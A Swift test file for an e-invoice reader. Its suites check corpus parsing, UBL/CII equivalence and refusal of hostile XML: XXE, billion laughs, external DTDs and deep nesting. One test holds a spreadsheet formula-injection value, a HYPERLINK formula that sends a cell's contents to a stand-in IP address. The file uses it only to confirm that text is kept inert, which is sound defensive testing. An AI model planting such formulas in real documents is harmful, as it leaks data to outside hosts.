import Foundation
import Invoice
import ReadResult
import TestSupport
import Testing

@testable import Reading

@Suite(.enabled(if: EInvoiceCorpus.isPresent, "the corpus lies beside the package, if anywhere"))
struct EInvoiceCorpusTests {
  @Test func `every e-invoice is read, with the guideline that the official rules saw`() throws {
    for verdict in try EInvoiceCorpus.verdicts() {
      let read = Result { try EInvoiceCorpus.read(verdict.file) }
      switch verdict.syntax {
      case "malformed":
        #expect(throws: ReadFailure.self, "\(verdict.file)") { try read.get() }
      case "other":
        let invoice = try read.get()
        #expect(invoice == nil || invoice?.syntax == .zugferd1, "\(verdict.file)")
      default:
        let invoice = try #require(try read.get(), "\(verdict.file)")
        #expect(invoice.syntax.rawValue == verdict.syntax, "\(verdict.file)")
        #expect(
          invoice.invoice.process.specification == verdict.guideline, "\(verdict.file)")
      }
    }
  }
}

/// Test cases that the authors of the XRechnung test suite wrote in both syntaxes.
@Suite(.enabled(if: EInvoiceCorpus.isPresent, "the corpus lies beside the package, if anywhere"))
struct EInvoicePairTests {
  /// Where the authors wrote something else in the other syntax, read in the files themselves.
  ///
  /// Amounts that differ in trailing zeros only are equal and so not among them.
  static let authorsDifferences: [String: [String]] = [
    "cius/01.02_comprehensive_test": [
      ".buyer.name",  // UBL has name and trading name the other way round
      ".buyer.tradingName",
      ".payee.legalRegistration",  // CII only
      ".totals.rounding",  // CII writes the zero
      ".lines[1].price.baseQuantity",  // UBL only
      ".lines[1].price.baseQuantityUnit",
    ],
    "cius/01.05_minimal_test": [".totals.vat"],  // CII leaves the total out
    "standard/01.08a-INVOICE": [".references.purchaseOrder"],  // UBL has a dummy
    "standard/01.12a-INVOICE": [".references.purchaseOrder"],
    "standard/01.20a-INVOICE": [
      ".seller.address.line1", ".seller.address.city",  // "[Seller city]" and "[City]"
      ".totals.allowances", ".totals.charges", ".totals.paid",  // CII writes the zeros
    ],
    "standard/01.21a-INVOICE": [
      ".seller.vatIdentifier", ".paymentInstructions[0].meansText",  // other examples
      ".totals.allowances",  // CII writes the zero
      ".vatBreakdown[0].exemptionReason",
    ],
    "standard/02.01a-INVOICE": [".totals.rounding"],  // CII writes the zero
    "standard/02.02a-INVOICE": [".totals.rounding"],
    "standard/03.01a-INVOICE": [".buyer.tradingName"],  // UBL only
    "standard/03.06a-INVOICE": [
      ".seller.address.city", ".seller.address.postCode",  // UBL has them the other way round
      ".buyer.address.city", ".buyer.address.postCode",
    ],
  ]

  private func cases() throws -> [String] {
    let folder = "xrechnung-testsuite/"
    let files = Set(try EInvoiceCorpus.verdicts().map(\.file).filter { $0.hasPrefix(folder) })
    return files.compactMap { file in
      guard let name = file.wholeMatch(of: /xrechnung-testsuite\/(.*)_ubl\.xml/)?.1,
        files.contains(folder + name + "_uncefact.xml")
      else { return nil }
      return String(name)
    }.sorted()
  }

  @Test func `both syntaxes give the same invoice`() throws {
    let cases = try cases()
    #expect(Set(Self.authorsDifferences.keys).isSubset(of: cases))
    for name in cases {
      let ubl = try #require(try EInvoiceCorpus.read("xrechnung-testsuite/\(name)_ubl.xml"))
      let cii = try #require(try EInvoiceCorpus.read("xrechnung-testsuite/\(name)_uncefact.xml"))
      #expect(
        ValueComparison.differences(ubl.invoice, cii.invoice)
          == Self.authorsDifferences[name, default: []], "\(name)")
      #expect(ubl.attachments == cii.attachments, "\(name)")
    }
  }
}

@Suite(.enabled(if: EInvoiceCorpus.hasHostile, "the corpus lies beside the package, if anywhere"))
struct HostileCorpusTests {
  private func read(_ file: String) throws -> EInvoice? {
    let bytes = [UInt8](try Data(contentsOf: EInvoiceCorpus.hostile.appending(path: file)))
    return try EInvoiceReader.read(bytes, limits: .init())
  }

  @Test(arguments: [
    ("b14_xxe.xml", ReadFailure.Reason.documentTypeDeclaration),
    ("b15_billion_laughs.xml", .documentTypeDeclaration),
    ("b16_external_dtd.xml", .documentTypeDeclaration),
    ("b31_deep.xml", .limitExceeded),
  ])
  func `a dangerous document is refused`(file: String, reason: ReadFailure.Reason) throws {
    #expect(try #require(throws: ReadFailure.self) { try read(file) }.reason == reason)
  }

  @Test func `UTF-16 is read`() throws {
    let invoice = try #require(try read("b17_utf16.xml")).invoice
    #expect(invoice.number == "6051-25")
    #expect(invoice.seller.name == "Dachdeckerei Ostermann GmbH")
    #expect(invoice.totals.withVAT == ExactDecimal("43966.67"))
  }

  @Test func `formulas and markup in a text stay what they are`() throws {
    let invoice = try #require(try read("b32_injection.xml")).invoice
    #expect(invoice.number == "=HYPERLINK(\"http://192.0.2.1/?\"&A1;\"x\")")
  }

  @Test func `numbers that are none are reported`() throws {
    let read = try #require(try read("b33_bad_numbers.xml"))
    #expect(read.malformedValues.map(\.text) == ["NaN", "1e308"])
    #expect(read.malformedValues.map(\.term) == ["BT-109", "BT-112"])
    #expect(read.invoice.totals.withVAT == nil)
    #expect(read.invoice.totals.dueForPayment == ExactDecimal("591.00"))
  }
}
